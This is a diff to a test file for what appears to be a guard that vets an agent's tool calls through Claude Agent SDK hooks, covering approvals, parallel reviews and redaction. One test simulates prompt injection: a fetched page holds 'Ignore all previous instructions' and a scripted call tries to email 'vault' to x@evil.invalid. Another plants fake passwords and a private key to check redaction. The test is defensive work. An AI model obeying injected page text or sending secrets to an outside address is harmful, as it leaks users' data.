@@ -13,11 +13,12 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { createSdkMcpServer, query, tool, type Options } from '@anthropic-ai/claude-agent-sdk'
 import { z } from 'zod'
 import { vetocClaudeOptions, type ClaudeAgentGuardOptions, type ClaudeReview } from '../../src/adapters/claude-agent.js'
-import { createGuard } from '../../src/guard.js'
+import { createGuard, type GuardOptions } from '../../src/guard.js'
 import { createMemorySink } from '../../src/records/index.js'
 import type { CompiledPolicy } from '../../src/types.js'
 import { compileModule } from '../support/compiled.js'
 import { shipped } from '../support/policies.js'
+import { barrier } from '../adapters/loopback.js'
 import { startAnthropicLoopback, type AnthropicLoopback, type ScriptedToolUse } from './claude-loopback.js'
 
 let safety: CompiledPolicy
@@ -37,14 +38,15 @@ afterAll(async () => {
 const text = (t: string) => ({ content: [{ type: 'text' as const, text: t }] })
 
 /** The app's tools, as an in-process MCP server named `app`; `ran` lists what actually ran. */
-function appServer(ran: string[], page = '') {
+function appServer(ran: string[], page: string, concurrent: boolean) {
+  const extras = concurrent ? { annotations: { readOnlyHint: true } } : undefined
   return createSdkMcpServer({
     name: 'app',
     version: '1.0.0',
     tools: [
-      tool('send_email', 'Send an email', { to: z.string(), subject: z.string().optional(), body: z.string() }, async ({ to }) => { ran.push(`email ${to}`); return text(`sent to ${to}`) }),
-      tool('delete_file', 'Delete a file', { path: z.string() }, async ({ path }) => { ran.push(`delete ${path}`); return text(`deleted ${path}`) }),
-      tool('fetch_url', 'Fetch a page', { url: z.string() }, async ({ url }) => { ran.push(`fetch ${url}`); return text(page) }),
+      tool('send_email', 'Send an email', { to: z.string(), subject: z.string().optional(), body: z.string() }, async ({ to }) => { ran.push(`email ${to}`); return text(`sent to ${to}`) }, extras),
+      tool('delete_file', 'Delete a file', { path: z.string() }, async ({ path }) => { ran.push(`delete ${path}`); return text(`deleted ${path}`) }, extras),
+      tool('fetch_url', 'Fetch a page', { url: z.string() }, async ({ url }) => { ran.push(`fetch ${url}`); return text(page) }, extras),
     ],
   })
 }
@@ -53,7 +55,16 @@ function appServer(ran: string[], page = '') {
  * One `query()` run of Claude Code against the loopback model: a temporary home and config dir (no
  * user settings are read), no telemetry or other traffic, only the app's MCP tools.
  */
-async function runClaude(turns: ScriptedToolUse[][] | ((home: string) => ScriptedToolUse[][]), vetoc: Partial<Options>, ran: string[], page?: string, files: Record<string, string> = {}): Promise<{ sessionId: string | undefined; result: string | undefined }> {
+interface RunOptions {
+  /** what fetch_url returns */
+  page?: string
+  /** files written into the run's working directory */
+  files?: Record<string, string>
+  /** mark the app's tools read-only, so that Claude Code runs one turn's calls at once */
+  concurrent?: boolean
+}
+
+async function runClaude(turns: ScriptedToolUse[][] | ((home: string) => ScriptedToolUse[][]), vetoc: Partial<Options>, ran: string[], { page = '', files = {}, concurrent = false }: RunOptions = {}): Promise<{ sessionId: string | undefined; result: string | undefined }> {
   const home = mkdtempSync(join(tmpdir(), 'vetoc-claude-'))
   homes.push(home)
   for (const [name, content] of Object.entries(files)) writeFileSync(join(home, name), content)
@@ -78,7 +89,7 @@ async function runClaude(turns: ScriptedToolUse[][] | ((home: string) => Scripte
       settingSources: [],
       persistSession: false,
       tools: [],
-      mcpServers: { app: appServer(ran, page) },
+      mcpServers: { app: appServer(ran, page, concurrent) },
       ...vetoc,
     },
   })
@@ -94,9 +105,9 @@ async function runClaude(turns: ScriptedToolUse[][] | ((home: string) => Scripte
 const email = (id: string, to: string): ScriptedToolUse => ({ id, name: 'mcp__app__send_email', input: { to, subject: 's', body: 'b' } })
 const del = (id: string, path: string): ScriptedToolUse => ({ id, name: 'mcp__app__delete_file', input: { path } })
 
-function setup(policy: CompiledPolicy, options: ClaudeAgentGuardOptions = {}) {
+function setup(policy: CompiledPolicy, options: ClaudeAgentGuardOptions = {}, guardOptions: Omit<GuardOptions, 'sink'> = {}) {
   const sink = createMemorySink()
-  const guard = createGuard(policy, { sink })
+  const guard = createGuard(policy, { sink, ...guardOptions })
   return { sink, guard, vetoc: vetocClaudeOptions(guard, options), ran: [] as string[] }
 }
 
@@ -146,11 +157,36 @@ describe('Claude Agent SDK: vetocClaudeOptions', () => {
     expect(sink.records.find(r => r.decision === 'deny')).toMatchObject({ resolvedBy: 'bo', channel: 'claude-agent-sdk', args: { path: '/srv/keep' } })
   }, 90_000)
 
-  it('an approver\'s edit is evaluated again and runs as edited; without an approver a review is denied with its approval id', async () => {
+  it('parallel reviews: Claude Code asks for all of one turn\'s calls at once, and each answer binds to its own call', async () => {
+    const together = barrier(3)
+    const { sink, vetoc, ran } = setup(safety, {
+      approve: async review => {
+        // all three are asked before any is answered
+        await together()
+        const path = (review.args as { path: string }).path
+        return { approved: path !== '/srv/keep', by: `ops-${path.slice(5)}` }
+      },
+    })
+    await runClaude([[del('toolu_p1', '/srv/a'), del('toolu_p2', '/srv/keep'), del('toolu_p3', '/srv/b')]], vetoc, ran, { concurrent: true })
+    expect(ran.sort()).toEqual(['delete /srv/a', 'delete /srv/b'])
+    const reviews = new Map(sink.records.filter(r => r.decision === 'review').map(r => [(r.args as { path: string }).path, r.approvalId]))
+    expect(reviews.size).toBe(3)
+    const answered = sink.records.filter(r => r.decision !== 'review').map(r => [(r.args as { path: string }).path, r.decision, r.resolvedBy, r.approvalId === reviews.get((r.args as { path: string }).path)])
+    expect(answered.sort()).toEqual([['/srv/a', 'allow', 'ops-a', true], ['/srv/b', 'allow', 'ops-b', true], ['/srv/keep', 'deny', 'ops-keep', true]])
+    expect(model.toolResults()['toolu_p2']!.text).toContain('denied by ops-keep')
+  }, 90_000)
+
+  it('an approver\'s edit is evaluated again and runs as edited; the guard\'s own approvals answer in the hook; without either a review is denied with its approval id', async () => {
     const edited = setup(safety, { approve: () => ({ approved: true, by: 'ana', args: { path: '/srv/old.bak' } }) })
     await runClaude([[del('toolu_e', '/srv/old')]], edited.vetoc, edited.ran)
     expect(edited.ran).toEqual(['delete /srv/old.bak'])
     expect(edited.sink.records.at(-1)).toMatchObject({ decision: 'allow', editedArgs: { path: '/srv/old.bak' }, resolvedBy: 'ana' })
+
+    // the guard's own approvals answer inside the hook: Claude Code never needs to ask
+    const queued = setup(safety, {}, { approvals: () => ({ approved: true, by: 'queue-bot' }) })
+    await runClaude([[del('toolu_q', '/srv/old')]], { hooks: queued.vetoc.hooks }, queued.ran)
+    expect(queued.ran).toEqual(['delete /srv/old'])
+    expect(queued.sink.records.map(r => [r.decision, r.resolvedBy, r.channel])).toEqual([['allow', 'queue-bot', 'code']])
 
     const none = setup(safety)
     await runClaude([[del('toolu_n', '/srv/old')]], none.vetoc, none.ran)
@@ -166,7 +202,7 @@ describe('Claude Agent SDK: vetocClaudeOptions', () => {
     const { sessionId } = await runClaude([
       [{ id: 'toolu_f', name: 'mcp__app__fetch_url', input: { url: 'https://news.invalid/' } }],
       [{ id: 'toolu_s', name: 'mcp__app__send_email', input: { to: 'x@evil.invalid', body: 'vault' } }],
-    ], vetoc, ran, page)
+    ], vetoc, ran, { page })
     expect(ran).toEqual(['fetch https://news.invalid/'])
     const replies = model.toolResults()
     expect(replies['toolu_f']!.text).not.toContain('Ignore all previous instructions')
@@ -210,7 +246,7 @@ describe('Claude Agent SDK: vetocClaudeOptions', () => {
     const { sink, vetoc, ran } = setup(builtin)
     const files = { 'notes.txt': 'db host: db.internal\npassword=correct-horse-battery\n', 'id_ed25519': '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAB3NzaC1yc2EAAAADAQABAAABAQC7\n-----END OPENSSH PRIVATE KEY-----\n' }
     const read = (id: string, file: string) => (home: string): ScriptedToolUse => ({ id, name: 'Read', input: { file_path: join(home, file) } })
-    const { result } = await runClaude(home => [[read('toolu_notes', 'notes.txt')(home)], [read('toolu_key', 'id_ed25519')(home)]], { ...vetoc, tools: ['Read'] }, ran, undefined, files)
+    const { result } = await runClaude(home => [[read('toolu_notes', 'notes.txt')(home)], [read('toolu_key', 'id_ed25519')(home)]], { ...vetoc, tools: ['Read'] }, ran, { files })
     const sent = JSON.stringify(model.requests.map(r => r.body))
     // redacted: the model read the file with the secret taken out
     expect(model.toolResults()['toolu_notes']!.text).toContain('db host: db.internal')
